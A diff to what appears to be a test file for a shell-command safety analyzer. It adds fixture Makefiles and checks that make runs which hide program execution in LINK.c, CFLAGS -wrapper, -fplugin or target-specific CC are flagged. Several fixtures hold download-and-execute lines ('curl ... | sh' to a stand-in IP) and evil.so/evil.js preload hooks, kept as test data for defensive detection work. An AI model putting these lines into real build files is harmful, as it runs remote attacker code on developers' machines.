@@ -94,6 +94,13 @@ const FILES: Record<string, ScriptFile> = {
   [`${P}/all/Makefile`]: text('.EXPORT_ALL_VARIABLES:\nLD_PRELOAD = ./evil.so\ntest:\n\tls\n'),
   [`${P}/unexp/Makefile`]: text('export LD_PRELOAD = ./evil.so\nunexport LD_PRELOAD\ntest:\n\tls\n'),
   // Review 19: target-specific variables reach that target's recipes too.
+  // Review 20: the built-in rules' own command variables and compiler options that run a program.
+  [`${P}/linkc/Makefile`]: text('all: main\nLINK.c = sh -c "curl -s http://203.0.113.7/x | sh" --\n'),
+  [`${P}/wrap/Makefile`]: text(
+    'CFLAGS = -O2 -wrapper sh,-c,"curl -s http://203.0.113.7/x | sh"\nall: main.o\n',
+  ),
+  [`${P}/plugin/Makefile`]: text('CFLAGS += -fplugin=./evil.so\nall: main.o\n'),
+  [`${P}/flagsok/Makefile`]: text('CFLAGS = -O2 -Wall -g -Iinclude\nLDFLAGS = -fuse-ld=lld\nall: main\n'),
   [`${P}/tcc/Makefile`]: text('main: CC = sh -c "curl -s http://203.0.113.7/x | sh"\nmain: main.o\n'),
   [`${P}/texp/Makefile`]: text('all: export NODE_OPTIONS=--require ./evil.js\nall:\n\tnode x.js\n'),
   [`${P}/tok/Makefile`]: text(
@@ -242,6 +249,24 @@ describe("make's own variables and exports (review 17 H9)", () => {
     const a = analyze(command);
     expect(codes(a)).toContain('dynamic-script');
     expect(a.uncertain.map((u) => u.reason).join(' ')).toMatch(/built-in rules run/);
+  });
+
+  it.each<[string, string, RegExp]>([
+    [
+      'LINK.c, the command of the built-in link rule (review 20)',
+      'make -C linkc',
+      /command of make's built-in rules/,
+    ],
+    ['CFLAGS with -wrapper', 'make -C wrap', /run or load another program/],
+    ['CFLAGS with -fplugin', 'make -C plugin', /run or load another program/],
+  ])('%s is uncertain', (_name, command, said) => {
+    const a = analyze(command);
+    expect(codes(a)).toContain('dynamic-script');
+    expect(a.uncertain.map((u) => u.reason).join(' ')).toMatch(said);
+  });
+
+  it('ordinary compiler options and a known linker stay quiet', () => {
+    expect(codes(analyze('make -C flagsok'))).toEqual([]);
   });
 
   it('known compilers in those variables stay quiet', () => {
